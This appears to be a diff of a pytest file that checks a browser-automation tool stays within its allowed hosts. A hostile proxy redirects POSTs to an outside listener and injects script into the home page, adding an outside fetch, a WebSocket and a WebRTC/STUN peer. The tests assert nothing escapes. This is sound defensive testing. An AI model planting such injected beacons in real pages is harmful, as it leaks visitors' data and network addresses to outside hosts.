@@ -1,9 +1,9 @@
 """Nothing leaves the profile's `allowed_hosts`: a hostile proxy in front of the reference site
 answers every POST with a 307 to an outside server (a second listener on 127.0.0.2) and sends
-the complaint page away through two redirects; its home page carries an outside link, image and
-fetch. Through the pages (a registration, the complaint web form, the complaint-page crawler)
-and through the API, the outside server receives nothing and every refusal is recorded as a
-scope violation naming its host.
+the complaint page away through two redirects; its home page carries an outside link, image,
+fetch, WebSocket and WebRTC peer (STUN over UDP). Through the pages (a registration, the
+complaint web form, the complaint-page crawler) and through the API, the outside server
+receives nothing and every refusal is recorded as a scope violation naming its host.
 
 One browser and about a dozen page loads (a few seconds); the reference site is a subprocess.
 """
@@ -12,12 +12,15 @@ from __future__ import annotations
 
 import contextlib
 import http.client
+import socket
 import threading
+import time
 from collections.abc import Iterator
 from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from types import SimpleNamespace
 from typing import Any
+from urllib.parse import urlsplit
 
 import pytest
 from playwright.sync_api import Error as PlaywrightError
@@ -41,7 +44,9 @@ class Outside:
     """The server no request may reach: it records whatever arrives."""
 
     url: str
+    udp_port: int
     seen: list[tuple[str, str, int]] = field(default_factory=list)  # method, path, body bytes
+    datagrams: list[bytes] = field(default_factory=list)  # what reached its UDP port (STUN)
 
 
 class _OutsideHandler(BaseHTTPRequestHandler):
@@ -102,7 +107,13 @@ class _ProxyHandler(BaseHTTPRequestHandler):
                 f'<body><a href="{outside}/injected-link">投诉举报 Complaints (elsewhere)</a>'
                 f'<img src="{outside}/injected-image.png" alt="">'
                 f'<script>fetch("{outside}/injected-fetch", {{method: "POST", body: "x"}})'
-                f'.catch(() => null)</script>').encode(), 1)
+                f'.catch(() => null);'
+                f'try {{ new WebSocket("{outside.replace("http", "ws")}/injected-socket"); }}'
+                f'catch (e) {{}}'
+                f'try {{ const pc = new RTCPeerConnection({{iceServers: [{{urls: '
+                f'"stun:{OUTSIDE_HOST}:{self.server.udp_port}"}}]}}); pc.createDataChannel("x");'
+                f' pc.createOffer().then(o => pc.setLocalDescription(o)); }} catch (e) {{}}'
+                f'</script>').encode(), 1)
         self.send_response(answer.status)
         for name, value in answer.getheaders():
             if name.lower() not in HOP_HEADERS:
@@ -110,6 +121,13 @@ class _ProxyHandler(BaseHTTPRequestHandler):
         self.send_header("Content-Length", str(len(body)))
         self.end_headers()
         self.wfile.write(body)
+
+
+def _listen_udp(outside: Outside, udp: socket.socket, stop: threading.Event) -> None:
+    udp.settimeout(0.1)
+    while not stop.is_set():
+        with contextlib.suppress(TimeoutError):
+            outside.datagrams.append(udp.recv(2048))
 
 
 def _serve(server: ThreadingHTTPServer) -> ThreadingHTTPServer:
@@ -123,18 +141,26 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SimpleNamespac
     """The reference site behind the hostile proxy, and the outside server."""
     site = reference.start(log=tmp_path_factory.mktemp("site") / "site.log")
     outside_server = _serve(ThreadingHTTPServer((OUTSIDE_HOST, 0), _OutsideHandler))
-    outside = Outside(f"http://{OUTSIDE_HOST}:{outside_server.server_address[1]}")
+    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    udp.bind((OUTSIDE_HOST, 0))
+    outside = Outside(f"http://{OUTSIDE_HOST}:{outside_server.server_address[1]}",
+                      udp.getsockname()[1])
     outside_server.record = outside  # type: ignore[attr-defined]
+    stop = threading.Event()
+    threading.Thread(target=_listen_udp, args=(outside, udp, stop), daemon=True).start()
     proxy = _serve(ThreadingHTTPServer(("127.0.0.1", 0), _ProxyHandler))
     host, port = site.url.split("//", 1)[1].split(":")
     proxy.site = (host, int(port))  # type: ignore[attr-defined]
     proxy.outside = outside.url  # type: ignore[attr-defined]
+    proxy.udp_port = outside.udp_port  # type: ignore[attr-defined]
     try:
         yield SimpleNamespace(site=site, outside=outside,
                               url=f"http://127.0.0.1:{proxy.server_address[1]}")
     finally:
+        stop.set()
         proxy.shutdown()
         outside_server.shutdown()
+        udp.close()
         site.stop()
 
 
@@ -197,12 +223,17 @@ def test_the_crawler_and_its_pages_stay_on_the_site(hostile, pages, profile):
     assert opened >= 2
     violations = _outside_of(pages.take_violations())
     assert hostile.outside.seen == []
-    by_path = {v["url"].removeprefix(hostile.outside.url): v for v in violations}
+    by_path = {urlsplit(v["url"]).path: v for v in violations}
     assert "/injected-link" not in by_path  # the crawler never followed the outside link
     assert by_path["/complaints"]["reason"].startswith(f"redirected there by {hostile.url}")
     assert by_path["/injected-image.png"]["resource_type"] == "image"
     assert by_path["/injected-fetch"]["method"] == "POST"
+    assert by_path["/injected-socket"]["resource_type"] == "websocket"
     assert {v["actor"] for v in violations} == {"anonymous"}
+    deadline = time.monotonic() + 1.0  # a STUN request would have come within milliseconds
+    while time.monotonic() < deadline and not hostile.outside.datagrams:
+        time.sleep(0.05)
+    assert hostile.outside.datagrams == []
 
 
 def test_the_api_channel_refuses_the_redirect_and_records_it(hostile, profile):
